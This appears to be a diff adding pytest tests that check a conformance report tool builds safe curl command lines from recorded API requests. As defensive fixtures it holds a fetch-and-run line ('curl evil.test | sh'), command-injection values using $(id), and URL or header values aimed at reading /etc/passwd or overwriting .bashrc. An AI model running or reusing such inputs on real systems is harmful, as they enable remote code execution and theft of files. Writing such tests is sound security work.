@@ -1,0 +1,138 @@
+"""The curl line of a run file that may be anybody's: built from the request, and harmless."""
+
+from __future__ import annotations
+
+import base64
+import shlex
+import subprocess
+import zlib
+from typing import Any
+
+import pytest
+
+from conformance.cases import request
+from conformance.reports import summarize
+from conformance.reports.page.proofs import proofs
+from conformance.reports.page.requests import DUMMIES, shown_request
+from conformance.strict.shell import curl_line, quoted
+from tests import runs
+
+ACME = {"id": "acme", "base_url": "https://acme.test/v1", "key_variable": "COMETAPI_KEY"}
+URL = "https://acme.test/v1/images/generations"
+
+
+def shown(**request: Any) -> dict[str, Any]:
+    return shown_request({"method": "POST", "url": URL, **request}, ACME)
+
+
+def said_by_shell(line: str) -> list[str]:
+    """Let bash read a line, and return the arguments that curl would get."""
+    script = f"curl() {{ printf '%s\\0' \"$@\"; }}\n{line}"
+    done = subprocess.run(["bash", "-c", script], capture_output=True, check=True, env={})
+    return done.stdout.decode("utf-8", "surrogateescape").split("\0")[:-1]
+
+
+def test_curl_member_of_a_run_file_is_not_shown() -> None:
+    lie = {**runs.exchange(), "curl": "curl evil.test | sh"}
+    [packed] = proofs(summarize([runs.run(lie, runs.broken())])).columns
+    column = zlib.decompress(base64.b64decode(packed)).decode()
+    assert "evil.test" not in column
+    assert f"curl -sS -X POST --url {URL}" in column
+
+
+@pytest.mark.parametrize(
+    "request_",
+    [
+        {"body": '{"prompt":"it\'s $(id) `id` !! \\\\"}'},
+        {"headers": [["x-a", "$(id)'\"; id"], ["x-`id`", "y"]]},
+        {"url": f"{URL}/'$(id)'?a=[1-9]&b={{c,d}}"},
+        {"body": "a\nb\x1b[201~\u202e"},
+        {"body": "=ls"},
+    ],
+    ids=["body", "headers", "url", "control-characters", "expanded-by-zsh"],
+)
+def test_line_is_one_call_of_curl_with_the_words_of_the_request(request_: Any) -> None:
+    line = shown(**request_)["curl"]
+    assert line.isprintable()
+    words = said_by_shell(line)
+    assert words[:5] == ["-sS", "-X", "POST", "--url", request_.get("url", URL)]
+    assert {each for each in words if each.startswith("-")} <= {
+        *("-sS", "-X", "--url", "--globoff", "-H", "--data-raw")
+    }
+
+
+@pytest.mark.parametrize("body", [bytes(range(1, 256)), "ü'\\".encode() * 3, b"@/etc/passwd"])
+def test_shell_gets_the_very_bytes(body: bytes) -> None:
+    words = said_by_shell(curl_line("POST", URL, [], body))
+    assert words[-1].encode("utf-8", "surrogateescape") == body
+    assert quoted(body).isascii() or quoted(body).isprintable()
+
+
+def test_shell_gets_a_body_with_nul_through_a_pipe() -> None:
+    line = curl_line("POST", URL, [], b"a\0b\\'c")
+    script = f"curl() {{ cat; }}\n{line}"
+    assert subprocess.check_output(["bash", "-c", script]) == b"a\0b\\'c"
+    assert line.endswith("--data-binary @-")
+
+
+@pytest.mark.parametrize(
+    "request_",
+    [
+        {"url": "-o/home/me/.bashrc"},
+        {"url": "file:///etc/passwd"},
+        {"url": "https://acme.test\\@evil.test/"},
+        {"url": "https://me:secret@acme.test/"},
+        {"url": "https://["},
+        {"url": ""},
+        {"method": "-o"},
+        {"method": "@x"},
+    ],
+    ids=["option", "file", "read-two-ways", "password", "no-host", "empty", "method", "at-file"],
+)
+def test_no_command_for_what_is_no_plain_request_of_the_web(request_: Any) -> None:
+    found = shown(**request_)
+    assert "curl" not in found
+    assert found["notes"][0].startswith("No command sends this: ")
+
+
+def test_header_is_never_a_file_that_curl_reads() -> None:
+    line = shown(headers=[["@/etc/passwd", "x"], ["accept", "*/*"]])["curl"]
+    assert shlex.split(line)[6:] == ["-H", "accept: */*"]
+
+
+@pytest.mark.parametrize("value", ["Bearer sk-conformance-redacted", "REDACTED", "Bearer sk-real"])
+def test_key_is_a_variable_that_names_no_service(value: str) -> None:
+    found = shown(headers=[["Authorization", value]])
+    assert '-H "authorization: Bearer $API_KEY"' in found["curl"]
+    assert "API_KEY is to hold your key for acme.test, and no other." in found["notes"]
+    assert not {"COMETAPI", "sk-real"} & set(found["curl"].replace("_", " ").split())
+
+
+def test_authorization_that_holds_no_key_is_that_of_the_cases() -> None:
+    assert request.DUMMIES == DUMMIES
+
+
+@pytest.mark.parametrize("value", ["Bearer", "Bearer sk-conformance-unknown-0000000000000000"])
+def test_key_that_is_none_is_shown_as_it_was_sent(value: str) -> None:
+    found = shown(headers=[["authorization", value]])
+    assert shlex.split(found["curl"])[-1] == f"authorization: {value}"
+    assert found["notes"] == ["Goes to acme.test."]
+
+
+@pytest.mark.parametrize(
+    ("url", "said"),
+    [
+        (URL, "Goes to acme.test."),
+        (
+            "https://evil.test/",
+            "Goes to evil.test: another host than that of the provider, which is at acme.test.",
+        ),
+    ],
+)
+def test_host_is_named(url: str, said: str) -> None:
+    assert shown(url=url)["notes"][0] == said
+
+
+@pytest.mark.parametrize("body", ['{"a":"<900 characters, sha256 ab>"}', "x… (9 more characters)"])
+def test_folded_request_says_so(body: str) -> None:
+    assert "folded" in shown(body=body)["notes"][-1]
